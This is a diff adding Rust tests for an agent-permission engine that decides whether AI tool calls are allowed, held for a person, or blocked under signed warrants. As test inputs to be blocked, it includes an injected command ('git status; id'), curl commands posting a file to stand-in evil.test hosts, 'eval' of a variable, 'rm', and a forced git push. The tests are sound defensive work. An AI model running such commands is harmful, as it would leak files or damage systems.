@@ -1,0 +1,346 @@
+//! What a warrant says to calls.
+
+use placet_core::{
+    Claim, Policy, Timestamp, Verdict,
+    decision::decide_under,
+    warrant::{
+        Authority, CountersInMemory, Held, Level, Posture, Purpose, Revocations, SealedWarrant, Subject,
+        Unused,
+    },
+};
+
+use super::{answer, call, decided, key, now, opened, roots, scope, terms};
+
+/// Rows of a call and the answer.
+fn check(slips: &[&str], rows: &[(&str, &str)]) {
+    let warrant = opened(slips);
+    for (json, expected) in rows {
+        assert_eq!(answer(&warrant, &call(json)), *expected, "{slips:?}: {json}");
+    }
+}
+
+#[test]
+fn arguments_are_a_closed_world() {
+    check(
+        &["allow: ['read_file: path under /data/reports, offset?, limit? range 1..100']"],
+        &[
+            (r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv"}}"#, "allow"),
+            (
+                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","offset":"x","limit":100}}"#,
+                "allow",
+            ),
+            (
+                r#"{"tool":"read_file","args":{"path":"/etc/hosts"}}"#,
+                "block: outside the warrant: `path` is `/etc/hosts`, not under `/data/reports`",
+            ),
+            (
+                r#"{"tool":"read_file","args":{"path":"notes.md"}}"#,
+                "block: outside the warrant: `path` must be under `/data/reports`, for which an absolute path is needed, and `notes.md` is a relative path",
+            ),
+            (
+                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","limit":101}}"#,
+                "block: outside the warrant: `limit` is `101`, not a number from `1` to `100`",
+            ),
+            (
+                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","limit":"5"}}"#,
+                "block: outside the warrant: `limit` must be a number from `1` to `100`, for which a number is needed, and `5` is text",
+            ),
+            (
+                r#"{"tool":"read_file","args":{"path":"/data/reports/a.csv","follow":true}}"#,
+                "block: outside the warrant: `follow` is an argument it does not name",
+            ),
+            (
+                r#"{"tool":"read_file","args":{}}"#,
+                "block: outside the warrant: `path` is missing, which must be under `/data/reports`",
+            ),
+            (
+                r#"{"tool":"write_file","args":{"path":"/data/reports/a.csv","content":""}}"#,
+                "block: outside the warrant: `write_file` is in none of its capabilities",
+            ),
+        ],
+    );
+    check(
+        &["allow: ['read_file: path any, ..', 'todo', 'memory:']"],
+        &[
+            (r#"{"tool":"read_file","args":{"path":"/srv/a","follow":true}}"#, "allow"),
+            (r#"{"tool":"todo","args":{"whatever":[1]}}"#, "allow"),
+            (
+                r#"{"tool":"memory","args":{"action":"add"}}"#,
+                "block: outside the warrant: `action` is an argument it does not name",
+            ),
+        ],
+    );
+}
+
+#[test]
+fn the_mildest_tier_that_names_a_call_counts_within_a_link() {
+    check(
+        &["allow: ['terminal: command argv(git status)']\ngate: ['terminal: command argv(git ..)', 'todo']"],
+        &[
+            (r#"{"tool":"terminal","args":{"command":"git status"}}"#, "allow"),
+            (
+                r#"{"tool":"terminal","args":{"command":"git fetch"}}"#,
+                "hold: the warrant wants a person to approve each such call of `terminal`",
+            ),
+            (
+                r#"{"tool":"todo","args":{}}"#,
+                "hold: the warrant wants a person to approve each such call of `todo`",
+            ),
+            (
+                r#"{"tool":"terminal","args":{"command":"git status; id"}}"#,
+                "block: outside the warrant: `command` must be the command `git status`, for which one plain command is needed, and `git status; id` is several commands (and 1 other capabilities refuse too)",
+            ),
+        ],
+    );
+}
+
+#[test]
+fn every_link_is_asked() {
+    let root = "allow: ['read_file: path under /data', 'web_search: query any']";
+    check(
+        &[root, "allow: ['read_file: path under /', 'write_file: path any, content any']"],
+        &[
+            (r#"{"tool":"read_file","args":{"path":"/data/a"}}"#, "allow"),
+            (
+                r#"{"tool":"read_file","args":{"path":"/srv/a"}}"#,
+                "block: outside the warrant, link 1 of 2: `path` is `/srv/a`, not under `/data`",
+            ),
+            (
+                r#"{"tool":"write_file","args":{"path":"/data/a","content":""}}"#,
+                "block: outside the warrant, link 1 of 2: `write_file` is in none of its capabilities",
+            ),
+            (
+                r#"{"tool":"web_search","args":{"query":"x"}}"#,
+                "block: outside the warrant, link 2 of 2: `web_search` is in none of its capabilities",
+            ),
+        ],
+    );
+    // A gate anywhere in the chain asks.
+    check(
+        &["gate: ['read_file: path any']", "allow: ['read_file: path any']"],
+        &[(
+            r#"{"tool":"read_file","args":{"path":"/data/a"}}"#,
+            "hold: the warrant wants a person to approve each such call of `read_file`",
+        )],
+    );
+}
+
+#[test]
+fn effects_limit_every_capability() {
+    let slip = "allow: ['terminal', 'write_file', 'web_extract']\neffects: 'send to *.example.com; no delete; write under /srv/nightly'";
+    check(
+        &[slip],
+        &[
+            (r#"{"tool":"terminal","args":{"command":"ls /srv"},"cwd":"/srv/nightly"}"#, "allow"),
+            (
+                r#"{"tool":"terminal","args":{"command":"curl -d @a.txt https://api.example.com/in"},"cwd":"/srv/nightly"}"#,
+                "allow",
+            ),
+            (r#"{"tool":"write_file","args":{"path":"/srv/nightly/a","content":""}}"#, "allow"),
+            (
+                r#"{"tool":"write_file","args":{"path":"/srv/other/a","content":""}}"#,
+                "block: outside the warrant: it writes /srv/other/a, but: write files under `/srv/nightly`",
+            ),
+        ],
+    );
+    let warrant = opened(&[slip]);
+    for command in [
+        "rm a.txt",
+        "ls; rm a.txt",
+        "curl -d @a.txt https://example.com/",
+        "curl -d @a.txt https://api.example.com.evil.test/",
+        "curl -d @a.txt http://api.example.com@evil.test/",
+        "eval \"$X\"",
+    ] {
+        let json = format!(
+            r#"{{"tool":"terminal","args":{{"command":{}}},"cwd":"/srv/nightly"}}"#,
+            serde_json::to_string(command).unwrap()
+        );
+        let answer = answer(&warrant, &call(&json));
+        assert!(answer.starts_with("block: outside the warrant: "), "{command}: {answer}");
+    }
+}
+
+#[test]
+fn effects_may_be_a_capability_of_their_own() {
+    check(
+        &["allow_effects: ['read under /srv; write under /srv/out']"],
+        &[
+            (r#"{"tool":"read_file","args":{"path":"/srv/a"}}"#, "allow"),
+            (r#"{"tool":"terminal","args":{"command":"cat a.txt"},"cwd":"/srv"}"#, "allow"),
+            (r#"{"tool":"terminal","args":{"command":"cat a > out/b"},"cwd":"/srv"}"#, "allow"),
+            (
+                r#"{"tool":"read_file","args":{"path":"/data/a"}}"#,
+                "block: outside the warrant: no capability covers that it reads /data/a",
+            ),
+            (
+                r#"{"tool":"terminal","args":{"command":"cat a > b"},"cwd":"/srv"}"#,
+                "block: outside the warrant: no capability covers that it writes /srv/b",
+            ),
+        ],
+    );
+}
+
+#[test]
+fn an_answer_in_advance_lifts_what_a_threshold_would_ask() {
+    // Critical: without the warrant a person is asked.
+    let push = r#"{"tool":"terminal","args":{"command":"git push --force origin main"},"cwd":"/srv/app"}"#;
+    assert_eq!(placet_core::decide(&call(push), &Policy::default()).verdict, Verdict::Hold);
+    let named = "allow: ['terminal: command argv(git push --force origin main)']";
+    let any = "allow: ['terminal']";
+    let argument_free = "allow: ['terminal: command any']";
+    let answers = |slips: &[&str]| decided(&opened(slips), &call(push), &Unused).verdict;
+    assert_eq!(answers(&[named]), Verdict::Allow);
+    assert_eq!(answers(&[any]), Verdict::Hold, "a tool alone does not answer for critical calls");
+    assert_eq!(answers(&[argument_free]), Verdict::Hold);
+    assert_eq!(answers(&[any, named]), Verdict::Hold, "only the root's word counts, not that of the agent");
+    assert_eq!(answers(&[named, any]), Verdict::Allow);
+    // What cannot be read is always asked about.
+    let hidden = r#"{"tool":"terminal","args":{"command":"eval \"$X\""}}"#;
+    let glob = opened(&["allow: ['terminal: command glob eval*']"]);
+    assert_eq!(decided(&glob, &call(hidden), &Unused).verdict, Verdict::Hold);
+    // What the operator wants to be asked about every time, too.
+    let policy: Policy = toml::from_str("[tools.terminal]\nalways_ask = true").unwrap();
+    let warrant = opened(&[named]);
+    let authority = Authority {
+        warrant: &warrant,
+        held: Held::Taken,
+        posture: Posture::OPEN,
+        counters: &Unused,
+        now: now(),
+    };
+    assert_eq!(decide_under(&call(push), &policy, Some(&authority)).verdict, Verdict::Hold);
+}
+
+#[test]
+fn limits_are_claims_on_counters() {
+    let warrant = opened(&["allow: ['pay: amount any']\nlimits: {max_calls: 3, budget: {amount: 10.50}}"]);
+    let pay = |amount: &str| call(&format!(r#"{{"tool":"pay","args":{{"amount":{amount}}}}}"#));
+    let mut counters = CountersInMemory::default();
+    let mut spend = |amount: &str| {
+        let decision = decided(&warrant, &pay(amount), &counters);
+        let said =
+            decision.findings.iter().find(|finding| finding.reason.contains("warrant")).unwrap().clone();
+        if said.verdict != Verdict::Block {
+            counters.settle(&decision.claims).unwrap();
+            return "allow".to_owned();
+        }
+        said.reason
+    };
+    assert_eq!(spend("10.4"), "allow");
+    assert_eq!(spend("0.2"), "outside the warrant: `amount` is 0.2, and 0.1 of 10.5 are left");
+    assert_eq!(spend("0.1"), "allow");
+    assert_eq!(spend("0"), "allow");
+    assert_eq!(spend("0"), "outside the warrant: all 3 calls are used up");
+    for odd in ["-1", "\"1\"", "0.0000001", "null"] {
+        let decision = decided(&warrant, &pay(odd), &Unused);
+        assert_eq!(decision.verdict, Verdict::Block, "{odd}");
+    }
+    // Two decisions on one snapshot cannot both spend the last use.
+    let last = opened(&["allow: ['todo']\nlimits: {max_calls: 1}"]);
+    let claims = decided(&last, &call(r#"{"tool":"todo"}"#), &Unused).claims;
+    let mut counters = CountersInMemory::default();
+    assert_eq!(counters.settle(&claims), Ok(()));
+    assert!(matches!(counters.settle(&claims), Err(Claim::Count { .. })));
+}
+
+#[test]
+fn a_rate_starts_again_with_each_stretch() {
+    let warrant = opened(&["allow: ['todo']\nlimits: {rate: 1/1m}"]);
+    let todo = call(r#"{"tool":"todo"}"#);
+    let mut counters = CountersInMemory::default();
+    let mut ask = |ms: i64| {
+        let authority = Authority {
+            warrant: &warrant,
+            held: Held::Taken,
+            posture: Posture::OPEN,
+            counters: &counters,
+            now: now().plus_ms(ms),
+        };
+        let decision = decide_under(&todo, &Policy::default(), Some(&authority));
+        if decision.verdict == Verdict::Allow {
+            counters.settle(&decision.claims).unwrap();
+        }
+        decision.verdict
+    };
+    assert_eq!(ask(0), Verdict::Allow);
+    assert_eq!(ask(1), Verdict::Block);
+    assert_eq!(ask(60_000), Verdict::Allow);
+}
+
+#[test]
+fn hours_risk_and_posture_bind() {
+    let at = |slip: &str, when: &str, posture: Posture| {
+        let warrant = opened(&[slip]);
+        let authority = Authority {
+            warrant: &warrant,
+            held: Held::Taken,
+            posture,
+            counters: &Unused,
+            now: Timestamp::parse(when).unwrap(),
+        };
+        let call = call(r#"{"tool":"terminal","args":{"command":"make"},"cwd":"/srv/app"}"#);
+        decide_under(&call, &Policy::default(), Some(&authority)).reasons.join("; ")
+    };
+    let hours = "allow: ['terminal']\nlimits: {hours: 'Mo 13:00-14:00 Europe/Berlin'}";
+    assert!(at(hours, "2026-03-02T12:30:00Z", Posture::OPEN).contains("the warrant allows this call"));
+    assert_eq!(
+        at(hours, "2026-03-02T13:00:00Z", Posture::OPEN),
+        "outside the warrant: it is not valid now",
+        "it has expired by then"
+    );
+    assert_eq!(
+        at("allow: ['terminal']\nlimits: {hours: 'Mo 14:00-15:00 UTC'}", super::NOW, Posture::OPEN),
+        "outside the warrant: it is only valid Mo 14:00-15:00 UTC"
+    );
+    assert!(
+        at("allow: ['terminal']\nlimits: {max_risk: 0.01}", super::NOW, Posture::OPEN)
+            .contains("the risk is")
+    );
+    let confined = "allow: ['terminal']\nposture: {fs: guarded, net: closed}";
+    assert_eq!(
+        at(confined, super::NOW, Posture::OPEN),
+        "outside the warrant: it needs a confinement of at least `fs guarded, net closed`, and `open` is in force"
+    );
+    let firm = Posture { fs: Level::Closed, net: Level::Closed, proc: Level::Open };
+    assert!(at(confined, super::NOW, firm).contains("the warrant allows this call"));
+    let half = Posture { fs: Level::Closed, net: Level::Guarded, proc: Level::Closed };
+    assert!(at(confined, super::NOW, half).contains("it needs a confinement"));
+}
+
+#[test]
+fn a_warrant_to_issue_does_not_act() {
+    let mut issue = terms(2, scope("allow: ['todo']"));
+    issue.purpose = Purpose::Issue;
+    let sealed = SealedWarrant::mint(issue, &key(1)).unwrap();
+    let open = |sealed: &SealedWarrant| sealed.open(&roots(), &Revocations::none(), now()).unwrap();
+    let todo = call(r#"{"tool":"todo"}"#);
+    assert_eq!(
+        answer(&open(&sealed), &todo),
+        "block: the warrant only gives leave to issue others, not to act"
+    );
+    let child = sealed.peek().unwrap().grant(terms(3, scope("allow: ['todo', 'memory']")), &key(2)).unwrap();
+    assert_eq!(answer(&open(&child), &todo), "allow");
+    assert!(
+        answer(&open(&child), &call(r#"{"tool":"memory"}"#))
+            .starts_with("block: outside the warrant, link 1")
+    );
+}
+
+#[test]
+fn a_grant_for_a_session_is_for_that_session() {
+    let mut grant = terms(2, scope("allow: ['todo']"));
+    grant.subject = Subject::Session { agent: "scout".to_owned(), session: "s1".to_owned() };
+    let sealed = SealedWarrant::mint(grant, &key(1)).unwrap();
+    let warrant = sealed.open(&roots(), &Revocations::none(), now()).unwrap();
+    for (agent, session, expected) in [
+        ("scout", "s1", "allow"),
+        ("scout", "s2", "block: the warrant is bound to another agent or session"),
+        ("other", "s1", "block: the warrant is bound to another agent or session"),
+        ("", "", "block: the warrant is bound to another agent or session"),
+    ] {
+        let json = format!(r#"{{"tool":"todo","agent":"{agent}","session":"{session}"}}"#);
+        assert_eq!(answer(&warrant, &call(&json)), expected);
+    }
+    assert!(sealed.peek().unwrap().grant(terms(3, scope("allow: ['todo']")), &key(2)).is_err());
+}
